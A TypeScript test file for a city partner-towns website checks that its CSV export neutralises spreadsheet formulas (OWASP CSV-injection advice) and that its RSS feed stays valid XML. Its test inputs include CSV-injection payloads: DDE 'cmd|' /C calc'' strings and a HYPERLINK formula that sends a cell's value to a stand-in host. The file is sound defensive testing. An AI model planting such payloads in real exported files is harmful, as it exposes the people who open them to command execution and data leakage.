/**
 * Outputs stay safe whatever text passes the content check: the CSV file never
 * starts a cell with a formula (OWASP's CSV injection advice), and the news feed
 * stays well-formed XML with &, <, ]]>, quotes and emoji, and says the same text
 * once parsed back.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import sax from 'sax';
import { getRssString } from '@astrojs/rss';
import { CSV_COLUMNS, FORMULA_START, csvCell, dataSet, toCsv, type DataCity } from '../../src/lib/open-data.ts';
import { feedOptions } from '../../src/lib/feed.ts';

/** Texts a staff member could type that mean something to a spreadsheet or to XML. */
const NASTY = [
  '=HYPERLINK("https://böse.example/?"&A1;"Klick")',
  '+49 2421 25-0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUMME(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  'Anführung "so" und \'so\'; mit Semikolon',
  'Zeile eins\r\nZeile zwei',
  'A & B < C > D ]]> E',
  '<![CDATA[x]]>',
  '&amp; &#x41; &nope;',
  'Emoji 🎉 und 中文 und Ereğli',
  'Ganz normal',
];

/** A strict reading of semicolon CSV (RFC 4180 quoting): rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ';') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  assert.equal(quoted, false, 'every quote is closed');
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

const city = (i: number, text: string): DataCity => ({
  id: `stadt-${i}`,
  name: text,
  eigenname: { name: text, sprache: text },
  land: { code: 'XX', name: text },
  kontinent: text,
  lage: [text, text],
  einwohner: { zahl: 1000 + i, ca: true, zusatz: text, text },
  entfernungKm: 100 + i,
  buergermeister: { name: text, amt: text },
  partnerschaftSeit: { iso: '1980-05', precision: 'month', long: text } as never,
  website: 'https://example.org/',
  // West and south of Greenwich: negative numbers stay numbers.
  koordinaten: { breite: -34.6 - i, laenge: -58.4 - i },
  stand: { iso: '2024-01', precision: 'month', long: 'Januar 2024' } as never,
});

describe('CSV: no cell starts a formula', () => {
  it('csvCell puts a quote before text that starts with =, +, -, @, tab or CR, and keeps the rest', () => {
    for (const text of NASTY) {
      const cell = csvCell(text);
      const [[value]] = parseCsv(`${cell}\r\n`) as [[string]];
      if (FORMULA_START.test(text)) {
        assert.equal(value, `'${text}`, JSON.stringify(text));
      } else {
        assert.equal(value, text, JSON.stringify(text));
      }
      assert.doesNotMatch(value, FORMULA_START, `${JSON.stringify(text)} → ${JSON.stringify(value)}`);
    }
  });

  it('numbers are not touched: a negative longitude stays a number with a decimal comma', () => {
    assert.equal(csvCell(-58.4), '-58,4');
    assert.equal(csvCell('-58,4'), `"'-58,4"`, 'the same as text is neutralised');
  });

  it('the whole file: every row has every column, no text cell starts a formula, the texts survive', () => {
    const cities = NASTY.map((text, i) => city(i, text));
    const set = dataSet(cities, (id) => `https://example.org/${id}/`, { titel: 'T', herausgeber: 'H', quelle: 'Q' });
    const rows = parseCsv(toCsv(set).replace(/^\uFEFF/, ''));
    assert.equal(rows.length, cities.length + 1);
    const header = rows[0]!;
    for (const [i, row] of rows.slice(1).entries()) {
      assert.equal(row.length, CSV_COLUMNS.length, `row ${i + 1}: ${row.length} cells`);
      for (const [j, value] of row.entries()) {
        const numeric = /^-?\d+(,\d+)?$/.test(value);
        assert.ok(numeric || !FORMULA_START.test(value), `${header[j]}: ${JSON.stringify(value)}`);
      }
      const name = row[header.indexOf('name')]!;
      assert.equal(name.replace(/^'(?=[=+\-@\t\r])/, ''), NASTY[i], 'the text itself is kept');
      assert.match(row[header.indexOf('laenge')]!, /^-\d+,\d+$/, 'negative longitude as a number');
    }
  });
});

/** Parses XML strictly (sax); throws on anything not well-formed. Returns each element's text by tag. */
function parseXml(xml: string): { tag: string; text: string }[] {
  const parser = sax.parser(true, {});
  const out: { tag: string; text: string }[] = [];
  const stack: { tag: string; text: string }[] = [];
  parser.onerror = (e) => {
    throw e;
  };
  parser.onopentag = (n) => stack.push({ tag: n.name, text: '' });
  parser.ontext = (t) => stack.length && (stack.at(-1)!.text += t);
  parser.oncdata = (t) => stack.length && (stack.at(-1)!.text += t);
  parser.onclosetag = () => out.push(stack.pop()!);
  parser.write(xml).close();
  return out;
}

describe('the news feed', () => {
  const url = (p: string) => `https://www.dueren.de/partnerstaedte/${p}/`;
  const news = NASTY.map((text, i) => ({
    id: `meldung-${i}`,
    titel: text.replace(/[\t\r\n]/g, ' '),
    beschreibung: `${text.replace(/[\t\r\n]/g, ' ')} – Beschreibung`,
    datum: new Date(Date.UTC(2024, 0, 1 + i)),
  }));

  it('is well-formed XML for any of these texts, and each title and description reads back unchanged', async () => {
    const xml = await getRssString(feedOptions(news, { title: 'Aktuelles & mehr <Partnerstädte>', description: '"Quotes" ]]> 🎉', url }));
    const elements = parseXml(xml);
    const titles = elements.filter((e) => e.tag === 'title').map((e) => e.text);
    const descriptions = elements.filter((e) => e.tag === 'description').map((e) => e.text);
    assert.deepEqual(titles, ['Aktuelles & mehr <Partnerstädte>', ...news.map((n) => n.titel)]);
    assert.deepEqual(descriptions, ['"Quotes" ]]> 🎉', ...news.map((n) => n.beschreibung)]);
    const links = elements.filter((e) => e.tag === 'link').map((e) => e.text);
    assert.deepEqual(links, [url('aktuelles'), ...news.map((n) => url(`aktuelles/${n.id}`))]);
  });

  it('one item per news, in the given order, each with a date', async () => {
    const xml = await getRssString(feedOptions(news, { title: 'T', description: 'D', url }));
    const dates = parseXml(xml).filter((e) => e.tag === 'pubDate').map((e) => new Date(e.text).getTime());
    assert.deepEqual(dates, news.map((n) => n.datum.getTime()));
  });
});
